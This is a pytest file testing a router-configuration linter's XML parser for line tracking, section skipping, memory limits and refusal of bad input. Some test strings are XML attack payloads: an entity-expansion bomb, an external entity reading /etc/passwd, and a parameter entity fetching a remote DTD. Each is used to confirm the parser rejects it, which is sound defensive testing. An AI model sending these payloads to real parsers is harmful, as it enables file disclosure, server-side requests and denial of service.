"""The XML builder: what it keeps, on which lines, and what it refuses."""

from __future__ import annotations

import gc
import tracemalloc

import pytest

from routerlint.errors import UnreadableInput
from routerlint.parsing.xml import Element, XmlLimits, parse_xml
from routerlint.text.source import SourceFile


def tree(text: str, skip: frozenset[str] = frozenset(), limits: XmlLimits | None = None) -> Element:
    file = SourceFile("config.xml", text)
    return parse_xml(file, skip=skip) if limits is None else parse_xml(file, skip=skip, limits=limits)


def test_texts_children_and_lines() -> None:
    root = tree("<a>\n <b>one</b>\n <c>\n  <d/>\n </c>\n <b>two</b>\n</a>")
    assert (root.tag, root.line, root.last_line) == ("a", 1, 7)
    assert root.get("b") == "one"
    assert root.every("b") == ("one", "two")
    assert root.line_of("b") == 2
    section = root.at("c")
    assert (section.line, section.last_line) == (3, 5)
    assert section.has("d")
    assert not section.filled("d")
    assert root.lines() == {"b": 2, "c": 3}


def test_cdata_entities_and_comments_become_text() -> None:
    root = tree("<a><b><![CDATA[x < y]]> &amp; <!-- no -->z</b></a>")
    assert root.get("b") == "x < y & z"


def test_attributes_make_an_element_even_without_children() -> None:
    root = tree('<a><b version="1.0.5"/></a>')
    assert root.at("b").attributes == {"version": "1.0.5"}
    assert root.get("b") == ""


def test_missing_paths_are_empty_and_know_a_line() -> None:
    root = tree("<a>\n<b>\n<c>1</c></b></a>")
    assert root.at("b", "x", "y").get("z") == ""
    assert root.at("b", "x").line == 2


@pytest.mark.parametrize(
    "head", ["\ufeff", "\n\n", '<?xml version="1.0"?>\n', '\n<?xml version="1.0" encoding="iso-8859-1"?>\n']
)
def test_what_stands_in_front_moves_no_line(head: str) -> None:
    root = tree(head + "<a>\n<b>ä</b></a>")
    assert root.get("b") == "ä"
    assert root.line_of("b") == head.count("\n") + 2


def test_sections_can_be_passed_over() -> None:
    root = tree("<a><keys><k><s>secret</s></k></keys><b><keys>kept</keys></b></a>", frozenset({"keys"}))
    assert root.get("keys") == ""
    assert not list(root.all("keys"))
    assert root.at("b").get("keys") == "kept"


BOMB = '<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>\n<pfsense>&b;</pfsense>'
EXTERNAL = '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><pfsense>&e;</pfsense>'
PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]><pfsense/>'


@pytest.mark.parametrize("text", [BOMB, EXTERNAL, PARAMETER, "<!DOCTYPE pfsense>\n<pfsense/>"])
def test_document_types_are_refused(text: str) -> None:
    with pytest.raises(UnreadableInput, match="document type"):
        tree(text)


def test_undeclared_entities_are_refused() -> None:
    with pytest.raises(UnreadableInput, match="not well-formed"):
        tree("<a>&nbsp;</a>")


def test_what_is_cut_off_is_refused_with_its_line() -> None:
    with pytest.raises(UnreadableInput, match="cut off") as raised:
        tree("<a>\n<b>\n<c>1</c>\n")
    assert raised.value.line == 4


def test_deep_nesting_is_refused() -> None:
    with pytest.raises(UnreadableInput, match="nested more than 60"):
        tree("<a>" * 100_000 + "</a>" * 100_000)


def test_too_many_elements_are_refused() -> None:
    with pytest.raises(UnreadableInput, match="larger"):
        tree("<a>" + "<b/>" * 50 + "</a>", limits=XmlLimits(elements=10))


def test_a_large_text_costs_its_size() -> None:
    # a text comes from expat in many pieces
    text = "<a><b>" + "&lt;x" * 400_000 + "</b></a>"
    tracemalloc.start()
    root = tree(text)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert len(root.get("b")) == 800_000
    assert peak < 20 * len(text)


@pytest.mark.parametrize(
    "text", ["", "   ", "hello", "<a", "<a></b>", "<a/><b/>", "\x00", "<a>\x0b</a>", "<a b='1' b='2'/>", "<1/>"]
)
def test_odd_text_is_refused_not_crashed(text: str) -> None:
    with pytest.raises(UnreadableInput):
        tree(text)


def test_lone_surrogates_do_no_harm() -> None:
    assert tree("<a><b>x\udc80y</b></a>").get("b") == "x?y"


def test_nothing_of_a_document_stays_behind_without_a_search_for_cycles() -> None:
    # the collector is paused while configurations are read, and what stays then is set aside
    def alive() -> int:
        return sum(isinstance(thing, Element) for thing in gc.get_objects())

    text = "<a>" + "<b c='1'>d</b>" * 100 + "<s><t>u</t></s></a>"
    gc.collect()
    gc.disable()
    try:
        before = alive()
        for _ in range(3):
            parse_xml(SourceFile("x", text), skip=frozenset({"s"}))
        assert alive() == before
    finally:
        gc.enable()
